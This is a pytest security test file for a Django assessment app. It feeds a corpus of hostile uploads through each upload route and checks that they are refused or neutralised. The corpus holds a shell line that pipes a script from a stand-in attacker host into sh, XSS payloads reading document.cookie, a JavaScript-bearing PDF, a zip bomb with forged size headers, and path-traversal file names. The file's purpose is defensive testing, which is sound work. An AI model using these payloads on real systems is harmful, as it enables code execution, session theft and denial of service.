"""Hostile uploads: a corpus made here of disguised executables, polyglot PDFs, scripted SVG and
HTML, zip bombs dressed as XLSX, an oversized file, and names that try to climb out of storage or
smuggle a NUL byte. Sent through every way a file enters the product — evidence (API and page),
programme files, and the answers import — each is refused (400, nothing kept) or neutralised:
kept under a clean name with an extension that matches its real type, and served back only as
an attachment of an accepted type, with nosniff.
"""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.test import APIClient

from maturity.assessments import uploads
from maturity.assessments.models import Answer, Evidence, HistoryEntry
from maturity.programmes.models import ProgrammeFile
from tests.factories import TINY_PDF
from tests.proof.world import World, build_world

pytestmark = pytest.mark.django_db

SERVABLE_TYPES = {*uploads.ALLOWED_TYPES, "text/csv; charset=utf-8", "application/octet-stream"}
ZIP_BOMB_BYTES = 50 * 1024 * 1024  # over every unpacking limit (evidence 10 MB here, import 40 MB)


# --- The corpus -------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + struct.pack("<I", 64)
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"PE\x00\x00\x4c\x01"
)
SHELL = b"#!/bin/sh\ncurl -s http://penyerang.example/x | sh\n"
SCRIPTED_SVG = (
    b'<?xml version="1.0" standalone="no"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me/').then(r=>r.text()).then(alert)</script></svg>"
)
BARE_SVG = b'  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
HTML = b"\xef\xbb\xbf<!doctype html><html><script>alert(document.cookie)</script></html>"
PDF_WITH_HTML = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
PDF_WITH_JS = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"4 0 obj<</S/JavaScript/JS(app.alert('x'))>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def workbook_zip(sheet: bytes, *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip laid out like an XLSX workbook, with ``sheet`` as its first worksheet."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    """50 MB of zeros in a worksheet: about 50 KB on the wire."""
    return workbook_zip(b"\x00" * ZIP_BOMB_BYTES)


@functools.cache
def lying_zip_bomb() -> bytes:
    """The same bomb, its headers claiming the worksheet unpacks to 100 bytes."""
    data = bytearray(zip_bomb())
    name = b"xl/worksheets/sheet1.xml"
    local = data.index(b"PK\x03\x04" + data[4:4], 0)
    while True:  # the worksheet's local header: uncompressed size at offset 22
        local = data.index(b"PK\x03\x04", local)
        name_length = struct.unpack_from("<H", data, local + 26)[0]
        if bytes(data[local + 30 : local + 30 + name_length]) == name:
            struct.pack_into("<I", data, local + 22, 100)
            break
        local += 4
    central = data.index(b"PK\x01\x02")
    while True:  # its central directory entry: uncompressed size at offset 24
        central = data.index(b"PK\x01\x02", central)
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_length]) == name:
            struct.pack_into("<I", data, central + 24, 100)
            break
        central += 4
    return bytes(data)


def pdf_with_zip() -> bytes:
    """A PDF header with a whole workbook zip behind it (a PDF/ZIP polyglot)."""
    return PDF_WITH_HTML + workbook_zip(b"<worksheet/>")


@dataclass(frozen=True)
class Sample:
    name: str  # the name the attacker gives
    content: bytes | None  # None: made on demand (large)
    refused: bool

    def bytes(self) -> bytes:
        if self.content is not None:
            return self.content
        return {"zip-bomb.xlsx": zip_bomb, "lying-zip-bomb.xlsx": lying_zip_bomb}[self.name]()


CORPUS = {
    "ELF executable named .pdf": Sample("laporan.pdf", ELF, refused=True),
    "PE executable named .pdf": Sample("laporan-tahunan.pdf", PE, refused=True),
    "shell script named .pdf": Sample("pedoman.pdf", SHELL, refused=True),
    "SVG with a script": Sample("peta.svg", SCRIPTED_SVG, refused=True),
    "SVG with onload, named .csv": Sample("data.csv", BARE_SVG, refused=True),
    "HTML page named .csv": Sample("rekap.csv", HTML, refused=True),
    "zip bomb as XLSX": Sample("zip-bomb.xlsx", None, refused=True),
    "zip bomb lying about its size": Sample("lying-zip-bomb.xlsx", None, refused=True),
    "PDF with an HTML payload": Sample("bukti.html", PDF_WITH_HTML, refused=False),
    "PDF with a zip payload": Sample("bukti.zip", pdf_with_zip(), refused=False),
    "PDF with JavaScript": Sample("bukti.pdf", PDF_WITH_JS, refused=False),
    "path traversal name": Sample("../../etc/passwd.pdf", TINY_PDF, refused=False),
    "Windows path traversal name": Sample("..\\..\\boot.ini.pdf", TINY_PDF, refused=False),
    "NUL byte in the name": Sample("bukti.pdf\x00.exe", TINY_PDF, refused=False),
}


# --- How files go in --------------------------------------------------------------------------


@pytest.fixture
def world(cast: Any) -> World:
    return build_world(cast)


@pytest.fixture
def small_limit(settings: Any) -> None:
    """A 10 MB size limit, so that an oversized file is cheap to make."""
    settings.EVIDENCE_MAX_BYTES = 10 * 1024 * 1024


def upload_file(sample: Sample) -> SimpleUploadedFile:
    return SimpleUploadedFile(sample.name, sample.bytes(), "application/pdf")


def api_client(world: World) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {world.tokens['csco_a']}")
    return client


def send_evidence_api(world: World, sample: Sample) -> Any:
    url = f"/api/v1/assessments/{world.a.assessment.pk}/evidence/"
    return api_client(world).post(url, {"indicator": "I-1", "file": upload_file(sample)})


def send_evidence_page(world: World, sample: Sample, cast: Any) -> Any:
    browser = Client()
    browser.force_login(cast.csco_a)
    url = f"/assessments/{world.a.assessment.pk}/answers/I-1/evidence/"
    return browser.post(url, {"file": upload_file(sample)}, HTTP_HX_REQUEST="true")


def send_programme_file(world: World, sample: Sample) -> Any:
    url = f"/api/v1/programmes/{world.a.programme.pk}/files/"
    return api_client(world).post(url, {"file": upload_file(sample)})


def send_answers_import(world: World, sample: Sample, apply: bool) -> Any:
    url = f"/api/v1/assessments/{world.a.assessment.pk}/answers/import/"
    if apply:
        url += "?apply=1"
    return api_client(world).post(url, {"file": upload_file(sample)})


def kept_files() -> set[str]:
    root = Path(settings.MEDIA_ROOT)
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


def assert_refused_on_file(response: Any) -> None:
    assert response.status_code == 400, (response.status_code, response.content[:300])
    if response["Content-Type"].startswith("application/json"):
        assert "file" in response.json(), response.json()


# --- How files come back out ------------------------------------------------------------------


def disposition_name(response: Any) -> str:
    header = response["Content-Disposition"]
    assert header.startswith("attachment;"), header
    found = re.search(r"filename=\"([^\"]*)\"", header) or re.search(
        r"filename\*=utf-8''(\S+)", header
    )
    assert found, header
    return found.group(1)


def assert_served_harmlessly(response: Any, *, expected_type: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] in SERVABLE_TYPES
    assert response["Content-Type"].split(";")[0] == expected_type
    assert response["X-Content-Type-Options"] == "nosniff"
    name = disposition_name(response)
    assert "/" not in name and "\\" not in name and "\x00" not in name and ".." not in name
    assert name.endswith(uploads.EXTENSIONS[expected_type]), name


def assert_clean_record(name: str, stored: str, content_type: str) -> None:
    assert content_type in uploads.ALLOWED_TYPES
    assert "/" not in name and "\\" not in name and "\x00" not in name
    assert name.endswith(uploads.EXTENSIONS[content_type]), name
    path = (Path(settings.MEDIA_ROOT) / stored).resolve()
    assert path.is_relative_to(Path(settings.MEDIA_ROOT).resolve()), stored
    assert path.is_file()


# --- The tests --------------------------------------------------------------------------------


@pytest.mark.parametrize("sample", CORPUS.values(), ids=CORPUS.keys())
def test_evidence_through_the_api_is_refused_or_neutralised(world, sample, small_limit, cast):
    before_files, before_rows = kept_files(), Evidence.objects.count()
    response = send_evidence_api(world, sample)
    if sample.refused:
        assert_refused_on_file(response)
        assert Evidence.objects.count() == before_rows
        assert kept_files() == before_files
        return
    assert response.status_code == 201, response.content[:300]
    evidence = Evidence.objects.get(pk=response.json()["id"])
    assert_clean_record(evidence.name, evidence.file.name, evidence.content_type)
    assert evidence.content_type == uploads.PDF
    client = api_client(world)
    assert_served_harmlessly(
        client.get(f"/api/v1/assessments/{world.a.assessment.pk}/evidence/{evidence.pk}/download/"),
        expected_type=uploads.PDF,
    )
    browser = Client()
    browser.force_login(cast.reviewer)
    assert_served_harmlessly(
        browser.get(f"/assessments/{world.a.assessment.pk}/evidence/{evidence.pk}/download/"),
        expected_type=uploads.PDF,
    )


@pytest.mark.parametrize("sample", CORPUS.values(), ids=CORPUS.keys())
def test_evidence_through_the_page_is_refused_or_neutralised(world, sample, small_limit, cast):
    before = set(Evidence.objects.values_list("pk", flat=True))
    response = send_evidence_page(world, sample, cast)
    added = Evidence.objects.exclude(pk__in=before)
    if sample.refused:
        assert response.status_code == 400, response.status_code
        assert not added.exists()
        return
    assert response.status_code == 200
    evidence = added.get()
    assert_clean_record(evidence.name, evidence.file.name, evidence.content_type)


@pytest.mark.parametrize("sample", CORPUS.values(), ids=CORPUS.keys())
def test_programme_files_are_refused_or_neutralised(world, sample, small_limit):
    before_files, before_rows = kept_files(), ProgrammeFile.objects.count()
    response = send_programme_file(world, sample)
    if sample.refused:
        assert_refused_on_file(response)
        assert ProgrammeFile.objects.count() == before_rows
        assert kept_files() == before_files
        return
    assert response.status_code == 201, response.content[:300]
    item = ProgrammeFile.objects.get(pk=response.json()["id"])
    assert_clean_record(item.name, item.file.name, item.content_type)
    download = api_client(world).get(
        f"/api/v1/programmes/{world.a.programme.pk}/files/{item.pk}/download/"
    )
    assert_served_harmlessly(download, expected_type=uploads.PDF)


@pytest.mark.parametrize("apply", [False, True], ids=["preview", "apply"])
@pytest.mark.parametrize("sample", CORPUS.values(), ids=CORPUS.keys())
def test_the_answers_import_refuses_every_one_and_saves_nothing(world, sample, apply):
    answers = list(Answer.objects.order_by("pk").values_list("pk", "version"))
    history = HistoryEntry.objects.count()
    response = send_answers_import(world, sample, apply)
    assert_refused_on_file(response)
    assert list(Answer.objects.order_by("pk").values_list("pk", "version")) == answers
    assert HistoryEntry.objects.count() == history


def test_an_oversized_file_is_refused_everywhere_and_nothing_is_kept(world, small_limit, cast):
    big = Sample("besar.pdf", TINY_PDF + b"%" * settings.EVIDENCE_MAX_BYTES, refused=True)
    before = kept_files()
    assert_refused_on_file(send_evidence_api(world, big))
    assert send_evidence_page(world, big, cast).status_code == 400
    assert_refused_on_file(send_programme_file(world, big))
    huge = Sample("besar.csv", b"a,b\n" * (2 * 1024 * 1024), refused=True)  # 8 MB > 5 MB limit
    assert_refused_on_file(send_answers_import(world, huge, apply=True))
    assert kept_files() == before


def test_a_traversal_name_writes_nothing_outside_private_storage(world, small_limit):
    sample = CORPUS["path traversal name"]
    response = send_evidence_api(world, sample)
    assert response.status_code == 201
    assert response.json()["name"] == "passwd.pdf"
    media = Path(settings.MEDIA_ROOT).resolve()
    assert not (media / ".." / ".." / "etc" / "passwd.pdf").resolve().exists()
    assert not (media.parent / "etc").exists()
